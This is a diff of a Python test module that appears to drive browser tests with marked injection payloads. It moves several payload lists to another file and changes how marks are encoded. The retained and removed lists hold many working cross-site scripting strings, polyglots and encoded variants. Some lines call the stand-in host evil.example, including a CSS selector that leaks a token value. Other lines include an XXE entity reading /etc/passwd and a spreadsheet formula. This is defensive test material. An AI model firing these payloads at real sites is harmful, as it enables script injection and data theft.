@@ -9,216 +9,10 @@ from __future__ import annotations
 from collections.abc import Iterator, Mapping
 from typing import Final
 
-HIT = "hit()"
-EVIL = "//evil.example/MARK"
+from tests.e2e.hostile_markup import FOREIGN, FORMS, HTMX, STYLES, TAGS, TWICE_READ, events
 
-TAGS = (
-    "<script MARK>hit()</script>",
-    "<ScRiPt MARK>hit()</sCrIpT>",
-    "<script MARK src=//evil.example/MARK.js></script>",
-    "<script MARK type=module>hit()</script>",
-    "<script MARK type=text/plain>hit()</script>",
-    "<script MARK async defer src=data:text/javascript,hit()></script>",
-    "<script/MARK/src=data:,hit()></script>",
-    "<script\tMARK>hit()</script\t>",
-    "<script\x0cMARK>hit()</script x>",
-    "<script MARK>hit()//",
-    "<<script MARK>hit();//<</script>",
-    "<scr<script>ipt MARK>hit()</scr</script>ipt>",
-    "</script><script MARK>hit()</script>",
-    "<script MARK>/*<!--*/hit()//--></script>",
-    "<script MARK language=vbscript>MsgBox hit</script>",
-    '<script MARK type="text/hyperscript">on load call hit()</script>',
-    "<script MARK type=importmap>{}</script>",
-    '<script MARK type=speculationrules>{"prefetch":[{"urls":["//evil.example/"]}]}</script>',
-    "<style MARK>@import'//evil.example/MARK.css';</style>",
-    "<link MARK rel=stylesheet href=//evil.example/MARK.css>",
-    "<link MARK rel=prefetch href=//evil.example/MARK>",
-    "<link MARK rel=dns-prefetch href=//MARK.evil.example>",
-    "<link MARK rel=preconnect href=//MARK.evil.example>",
-    "<link MARK rel=modulepreload href=//evil.example/MARK.js>",
-    "<link MARK rel=manifest href=//evil.example/MARK>",
-    "<link MARK rel=import href=//evil.example/MARK>",
-    "<object MARK data=//evil.example/MARK></object>",
-    "<object MARK type=text/html data=data:text/html,<script>parent.hit()</script>></object>",
-    "<embed MARK src=//evil.example/MARK>",
-    "<embed MARK src=javascript:hit()>",
-    "<applet MARK code=hit></applet>",
-    "<frameset MARK><frame src=javascript:hit()></frameset>",
-    "<iframe MARK src=javascript:hit()></iframe>",
-    "<iframe MARK src=//evil.example/MARK></iframe>",
-    "<iframe MARK srcdoc='<script>parent.hit()</script>'></iframe>",
-    "<iframe MARK srcdoc=&lt;script&gt;parent.hit()&lt;/script&gt;></iframe>",
-    "<fencedframe MARK src=//evil.example/MARK></fencedframe>",
-    "<portal MARK src=//evil.example/MARK></portal>",
-    "<meta MARK http-equiv=refresh content='0;url=//evil.example/MARK'>",
-    "<meta MARK http-equiv=refresh content='0;url=javascript:hit()'>",
-    "<meta MARK http-equiv=refresh content='0;url=data:text/html,<script>hit()</script>'>",
-    "<meta MARK http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
-    "<meta MARK charset=utf-7>",
-    "<meta MARK name=referrer content=unsafe-url>",
-    '<meta MARK name=htmx-config content=\'{"selfRequestsOnly":false}\'>',
-    "<base MARK href=//evil.example/>",
-    "<base MARK target=_blank>",
-    "<bgsound MARK src=javascript:hit()>",
-    "<layer MARK src=//evil.example/MARK></layer>",
-    "<xml MARK src=//evil.example/MARK></xml>",
-    "<plaintext MARK>",
-    "<xmp MARK>hit()</xmp>",
-    "<listing MARK>hit()</listing>",
-    "<dialog MARK open>hit()</dialog>",
-    "<slot MARK onslotchange=hit()>x</slot>",
-    "<template MARK shadowrootmode=open><script>hit()</script></template>",
-    "<div MARK popover=auto id=keys>x</div>",
-    "<selectedcontent MARK></selectedcontent>",
-    "<mark-MARK></mark-MARK>",
-)
+LETTERS = "bcdfghjklm"  # for digits
 
-FORMS = (
-    "<form MARK action=//evil.example/MARK><button>Go on</button></form>",
-    "<form MARK action=javascript:hit()><button>Go on</button></form>",
-    "</form><form MARK method=post action=//evil.example/MARK>",
-    "<form MARK id=page><input name=token></form>",
-    "<form MARK name=htmx><input name=ajax></form>",
-    "<form MARK id=toasts><input name=append></form>",
-    "<button MARK formaction=javascript:hit()>x</button>",
-    "<button MARK form=x formaction=//evil.example/MARK>Keep this</button>",
-    "<input MARK type=image src=//evil.example/MARK.png onerror=hit()>",
-    "<input MARK type=image formaction=javascript:hit()>",
-    "<input MARK type=hidden name=back value=//evil.example>",
-    "<input MARK type=hidden name=token value=stolen>",
-    "<input MARK autofocus onfocus=hit()>",
-    "<isindex MARK action=javascript:hit() type=image>",
-    "<keygen MARK autofocus onfocus=hit()>",
-    "<select MARK autofocus onfocus=hit()><option>x</select>",
-    "<textarea MARK autofocus onfocus=hit()>x</textarea>",
-    "<datalist MARK id=done-words><option value=x></datalist>",
-    "<output MARK name=token>x</output>",
-    "<label MARK for=q>x</label>",
-    "<button MARK popovertarget=keys popovertargetaction=show>x</button>",
-    "<button MARK command=show-modal commandfor=keys>x</button>",
-    "<a MARK href=//evil.example/MARK>MARK</a>",
-    "<a MARK href=javascript:hit()>MARK</a>",
-    "<a MARK href=/changes/MARK/undo data-row-link>MARK</a>",
-    "<a MARK ping=//evil.example/MARK href=/today>MARK</a>",
-    "<a MARK download href=data:text/html,hit()>MARK</a>",
-    "<map MARK><area href=javascript:hit() shape=default></map>",
-)
-
-# Events of every kind, each in a tag of its own or by leaving the attribute it stands in.
-EVENTS = (
-    "onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy "
-    "onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur "
-    "onbounce oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange "
-    "oncontextlost oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave "
-    "ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onfinish onfocus onfocusin "
-    "onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress "
-    "onkeyup onload onloadeddata onloadedmetadata onloadend onloadstart onlostpointercapture onmessage onmousedown "
-    "onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide "
-    "onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointermove "
-    "onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset "
-    "onresize onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect "
-    "onselectionchange onselectstart onshow onslotchange onstalled onstart onstorage onsubmit onsuspend ontimeupdate "
-    "ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun "
-    "ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationstart "
-    "onwebkitfullscreenchange onwheel onzoom"
-).split()
-EVENT_FORMS = (
-    "<img MARK src=x {0}=hit()>",
-    '" MARK {0}="hit()" x="',
-    "' MARK {0}='hit()' x='",
-    "<svg MARK {0}=hit()>",
-    "<body MARK {0}=hit()>",
-    "<video MARK src=x {0}=hit()></video>",
-    "<details MARK open {0}=hit()>x</details>",
-    "<input MARK autofocus {0}=hit()>",
-    "<a MARK href=# {0}=hit() contenteditable>x</a>",
-    "<marquee MARK {0}=hit()>x</marquee>",
-    "<p MARK {0}\x0c=\x0c`hit()`>x",
-    "<audio/MARK/src/{0}=hit()>",
-)
-
-FOREIGN = (
-    "<svg MARK onload=hit()>",
-    "<svg/MARK/onload=hit()>",
-    "<svg MARK><script>hit()</script></svg>",
-    "<svg MARK><script href=data:,hit() /></svg>",
-    "<svg MARK><script xlink:href=//evil.example/MARK.js></script></svg>",
-    "<svg MARK><a xlink:href=javascript:hit()><text x=9 y=9>MARK</text></a></svg>",
-    "<svg MARK><animate onbegin=hit() attributeName=x dur=1s></svg>",
-    "<svg MARK><set onbegin=hit() attributeName=x to=1></svg>",
-    "<svg MARK><animate xlink:href=#MARK attributeName=href values=javascript:hit() /><a id=MARK><text y=9>x</text></a>",
-    "<svg MARK><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'></svg>",
-    "<svg MARK><use href=//evil.example/MARK.svg#x></svg>",
-    "<svg MARK><image href=//evil.example/MARK.png onerror=hit()></svg>",
-    "<svg MARK><feImage href=//evil.example/MARK.png /></svg>",
-    "<svg MARK><foreignObject><iframe src=javascript:hit()></iframe></foreignObject></svg>",
-    "<svg MARK><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>hit()</handler></svg>",
-    "<svg MARK><style>@import'//evil.example/MARK.css'</style></svg>",
-    "<svg MARK><title><img src=x onerror=hit()></title></svg>",
-    "<svg MARK><desc><script>hit()</script></desc></svg>",
-    "<svg MARK><discard onbegin=hit()></svg>",
-    "<svg MARK><![CDATA[><img src=x onerror=hit()>]]></svg>",
-    "<math MARK href=javascript:hit()>MARK</math>",
-    "<math MARK><mi xlink:href=data:text/html,hit()>MARK</mi></math>",
-    "<math MARK><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
-    "<math MARK><annotation-xml encoding=text/html><script>hit()</script></annotation-xml></math>",
-    "<?xml-stylesheet MARK href=javascript:hit()?>",
-    "<!DOCTYPE MARK [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
-    "<xsl:script MARK>hit()</xsl:script>",
-)
-
-# What a parser reads differently the second time.
-TWICE_READ = (
-    "<noscript MARK><p title='</noscript><img src=x onerror=hit()>'>",
-    "<math><mtext><table><mglyph><style MARK><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
-    "<form MARK><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
-    "<svg MARK></p><style><a id='</style><img src=x onerror=hit()>'>",
-    "<table MARK><td><style><!--</style><img src=x onerror=hit()>-->",
-    "<math MARK></p><style><!--</style><img src/onerror=hit()>",
-    "<select MARK><template><img src=x onerror=hit()></template></select>",
-    "<option MARK><style></option></select><img src=x onerror=hit()></style>",
-    "<title MARK></title><img src=x onerror=hit()>",
-    "</title><img MARK src=x onerror=hit()>",
-    "</textarea><img MARK src=x onerror=hit()>",
-    "</style><img MARK src=x onerror=hit()>",
-    "</noscript><img MARK src=x onerror=hit()>",
-    "</template><img MARK src=x onerror=hit()>",
-    "</select><img MARK src=x onerror=hit()>",
-    "</svg><img MARK src=x onerror=hit()>",
-    "</bdi></p></main></div><img MARK src=x onerror=hit()>",
-    "</body></html><img MARK src=x onerror=hit()>",
-    "--><img MARK src=x onerror=hit()>",
-    "--!><img MARK src=x onerror=hit()>",
-    "<!--><img MARK src=x onerror=hit()>-->",
-    "<!-- MARK -->",
-    "<!MARK>",
-    "<?MARK hit()?>",
-    "]]><img MARK src=x onerror=hit()>",
-    "<![CDATA[<img MARK src=x onerror=hit()>]]>",
-    "<%<img MARK src=x onerror=hit()>%>",
-    "<//x MARK><img src=x onerror=hit()>",
-    "<x MARK/<img src=x onerror=hit()>",
-    "<img MARK src=x onerror=hit()//",
-    "<img MARK src=`x`onerror=hit()>",
-    '<img MARK src="x`><script>hit()</script>"`>',
-    "<img """ + '"' + "><script MARK>hit()</script>" + '"' + ">",
-    "<a MARK href=x onclick\n=\n'hit()'>x",
-    "<listing MARK>&lt;img src=x onerror=hit()&gt;</listing>",
-    "<xmp MARK></xmp><img src=x onerror=hit()>",
-    "<frameset MARK onload=hit()>",
-    "<image MARK src=x onerror=hit()>",
-    "&lt;img MARK src=x onerror=hit()&gt;",
-    "&#60;img MARK src=x onerror=hit()&#62;",
-    "&#x3c;script MARK&#x3e;hit()&#x3c;/script&#x3e;",
-    "&lt;script MARK&gt;hit()&lt;/script&gt;",
-    "&amp;lt;script MARK&amp;gt;hit()",
-    "%3Cscript MARK%3Ehit()%3C/script%3E",
-    "%253Cscript MARK%253Ehit()",
-    "\\u003cscript MARK\\u003ehit()\\u003c/script\\u003e",
-    "\\x3cscript MARK\\x3ehit()",
-    "+ADw-script MARK+AD4-hit()+ADw-/script+AD4-",
-)
 
 LEAVING = (
     '"><img MARK src=x onerror=hit()>',
@@ -228,7 +22,7 @@ LEAVING = (
     '" MARK autofocus onfocus=hit() tabindex=1 x="',
     "' MARK autofocus onfocus=hit() tabindex=1 x='",
     " MARK onmouseover=hit() ",
-    '&quot; MARK onfocus=hit() autofocus x=&quot;',
+    "&quot; MARK onfocus=hit() autofocus x=&quot;",
     "&#34; MARK onfocus=hit() autofocus x=&#34;",
     '" MARK style="animation:x" onanimationstart="hit()',
     '" MARK srcdoc="<script>parent.hit()</script>',
@@ -238,13 +32,13 @@ LEAVING = (
     '" MARK is="x-y',
     '" MARK slot="x',
     '" MARK nonce="x',
-    "\\\" MARK onfocus=hit() autofocus x=\\\"",
-    '"}]\' MARK onfocus=hit() autofocus x=\'[{"',
+    '\\" MARK onfocus=hit() autofocus x=\\"',
+    "\"}]' MARK onfocus=hit() autofocus x='[{\"",
     '[{"id":"MARK","start":0,"end":9,"kind":"proven\\" onclick=hit() MARK=\\""}]',
     "\\'-hit()-\\' MARK",
     "';hit();// MARK",
     '";hit();// MARK',
-    "\\\\\";hit();// MARK",
+    '\\\\";hit();// MARK',
     "`-hit()-` MARK",
     "*/hit()/* MARK",
     "\nhit() // MARK",
@@ -256,45 +50,6 @@ LEAVING = (
     "MARK'] , [data-token] , ['",
 )
 
-HTMX = (
-    "<p MARK hx-get=//evil.example/MARK hx-trigger=load>x</p>",
-    "<p MARK hx-get=/changes hx-trigger='load[hit()]'>x</p>",
-    "<p MARK hx-trigger='every 1s' hx-post=/today/enough>x</p>",
-    "<p MARK hx-on:click=hit()>x</p>",
-    "<p MARK hx-on::load=hit()>x</p>",
-    "<p MARK hx-on:htmx:after:swap=hit()>x</p>",
-    "<p MARK data-hx-on:click=hit()>x</p>",
-    "<p MARK data-hx-get=/settings data-hx-trigger=load data-hx-target=body>x</p>",
-    '" MARK hx-get="//evil.example/MARK" hx-trigger="load',
-    '" MARK hx-on:focus="hit()" autofocus tabindex="0',
-    '" MARK data-hx-on:mouseover="hit()',
-    '" MARK hx-vals="js:{x:hit()}',
-    "\" MARK hx-headers='js:{x:hit()}' x=\"",
-    '" MARK hx-trigger="load[hit()]" hx-get="/today',
-    '" MARK hx-target="body" hx-swap="outerHTML',
-    '" MARK hx-config="mode:cors,action://evil.example',
-    '" MARK hx-boost="true" href="//evil.example',
-    '" MARK hx-select-oob="#page',
-    '" MARK hx-swap-oob="true" id="page',
-    '" MARK hx-ext="x',
-    '" MARK hx-live="hit()',
-    '" MARK hx-preload="//evil.example',
-    '" MARK data-hx-confirm="js:hit()',
-    '" MARK hx-request=\'{"credentials":true}\' x="',
-    "<hx-partial MARK hx-target=body>x</hx-partial>",
-    "<template MARK hx type=partial hx-target=body><script>hit()</script></template>",
-    "<div MARK id=page hx-swap-oob=true>gone</div>",
-    "<div MARK hx-ignore>x</div>",
-    "<input MARK data-search hx-get=/search>",
-    '" MARK data-open-all="a" data-copy="[name=token]',
-    '" MARK data-key="s" data-handed="',
-    "<p MARK x-data x-init=hit()>x</p>",
-    "<p MARK x-on:load=hit() @load=hit()>x</p>",
-    "<p MARK _='on load hit()'>x</p>",
-    "<p MARK ng-app ng-init=constructor.constructor('hit()')()>x</p>",
-    "<p MARK v-html='hit()' v-on:click=hit()>x</p>",
-    "<p MARK data-bind='click: hit()'>x</p>",
-)
 
 TEMPLATES = (
     "{{ 7 * 7 }} MARK",
@@ -399,37 +154,6 @@ ADDRESSES = (
     "tel:+1;MARK=javascript:hit()",
 )
 
-STYLES = (
-    "<p MARK style=background:url(//evil.example/MARK)>x",
-    "<p MARK style=background:url('javascript:hit()')>x",
-    "<p MARK style=width:expression(hit())>x",
-    "<p MARK style=-moz-binding:url(//evil.example/MARK)>x",
-    "<p MARK style=behavior:url(//evil.example/MARK)>x",
-    "<p MARK style=position:fixed;inset:0;z-index:9>x",
-    "<style MARK>*{background:url(//evil.example/MARK)}</style>",
-    "<style MARK>input[name=token][value^=a]{background:url(//evil.example/a)}</style>",
-    "<style MARK>@font-face{font-family:x;src:url(//evil.example/MARK)}</style>",
-    "<style MARK>@keyframes x{}</style><p style=animation-name:x onanimationstart=hit()>x",
-    "<style MARK>:target{}</style><p id=x style='transition:1s' ontransitionend=hit()>x",
-    "<style MARK>li{list-style-image:url(javascript:hit())}</style>",
-    "<style MARK>@\\69mport'//evil.example/MARK'</style>",
-    "<style MARK><!--</style><script>hit()</script>-->",
-    '" MARK style="background:url(//evil.example/MARK)',
-    '" MARK class="hidden" style="display:none',
-    "<font MARK color=red size=7>x</font>",
-    "<table MARK background=//evil.example/MARK.png><td>x</table>",
-    "<body MARK background=//evil.example/MARK.png>",
-    "<br MARK size=&{hit()}>",
-    "<link MARK rel=stylesheet href=data:text/css,*{color:red}>",
-    "<img MARK src=//evil.example/MARK.png>",
-    "<img MARK srcset='//evil.example/MARK.png 2x'>",
-    "<img MARK lowsrc=//evil.example/MARK.png dynsrc=javascript:hit()>",
-    "<picture MARK><source srcset=//evil.example/MARK.png><img></picture>",
-    "<video MARK poster=//evil.example/MARK.png src=//evil.example/MARK.mp4 autoplay></video>",
-    "<audio MARK src=//evil.example/MARK.mp3 autoplay onerror=hit()></audio>",
-    "<video MARK><source onerror=hit() src=x></video>",
-    "<track MARK default src=//evil.example/MARK.vtt>",
-)
 
 ODD_LETTERS = (
     "\uff1cscript MARK\uff1ehit()\uff1c/script\uff1e",
@@ -469,25 +193,28 @@ ODD_LETTERS = (
     "\uff02 MARK onfocus=hit() autofocus x=\uff02",
     "\u2032 MARK onfocus=hit() \u2033",
     "\u02ba MARK onfocus=hit() autofocus x=\u02ba",
-    "=HYPERLINK(\"//evil.example/MARK\",\"hit\")",
+    '=HYPERLINK("//evil.example/MARK","hit")',
     "MARK " + "A" * 150 + "<img src=x onerror=hit()>",
     "MARK " + "<" * 60 + "img src=x onerror=hit()" + ">" * 60,
     "MARK " + "<b>" * 40 + "<img src=x onerror=hit()>",
 )
 
 POLYGLOTS = (
-    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */hit() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/MARK/oNloAd=hit()//>",
-    "\">><marquee MARK><img src=x onerror=hit()></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=hit()>",
+    (
+        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */hit() )//%0D%0A//"
+        "</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/MARK/oNloAd=hit()//>"
+    ),
+    '">><marquee MARK><img src=x onerror=hit()></marquee>"></plaintext\\></|\\><plaintext/onmouseover=hit()>',
     "'\"-->]]>*/</script></style></title></textarea><img MARK src=x onerror=hit()>",
     "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></select></script><svg/MARK/onload=hit()>",
     "'-hit()-'\"><svg MARK onload=hit()>{{7*7}}${7*7}<%=7*7%>",
     "%27%22%3E%3Cimg MARK src=x onerror=hit()%3E",
-    "1;hit()//\\\";hit()//<!--<img MARK src=x onerror=hit()>",
+    '1;hit()//\\";hit()//<!--<img MARK src=x onerror=hit()>',
     "\"`'><script MARK>\x20hit()</script>",
     "\"'`><\x00img MARK src=xxx:x \x20onerror=hit()>",
-    "<a MARK\"onclick='hit()'\"href=\"javascript:hit()\">x",
+    '<a MARK"onclick=\'hit()\'"href="javascript:hit()">x',
     "</ScRiPt><ScRiPt MARK>hit()</ScRiPt>{%debug%}",
-    "-->'\"/></sCript><deTailS MARK open x=\">\" ontoggle=(co\u006efirm)``>",
+    '-->\'"/></sCript><deTailS MARK open x=">" ontoggle=(co\u006efirm)``>',
 )
 
 
@@ -502,17 +229,13 @@ def marked(payload: str, field: str, number: int) -> str:
 
 
 def mark(field: str, number: int) -> str:
-    """Return the mark of a payload in a field: ``zzname017``."""
-    return f"zz{field}{number:03d}"
-
-
-def _events() -> tuple[str, ...]:
-    return tuple(EVENT_FORMS[place % len(EVENT_FORMS)].format(event) for place, event in enumerate(EVENTS))
+    """Return the mark of a payload in a field: ``zznamexbcd``; letters only, for names lose all else."""
+    return f"zz{field}x" + "".join(LETTERS[int(digit)] for digit in f"{number:03d}")
 
 
 KINDS: Final[Mapping[str, tuple[str, ...]]] = {
     "tags": TAGS,
-    "events": _events(),
+    "events": events(),
     "leaving": LEAVING,
     "addresses": ADDRESSES,
     "foreign": FOREIGN,
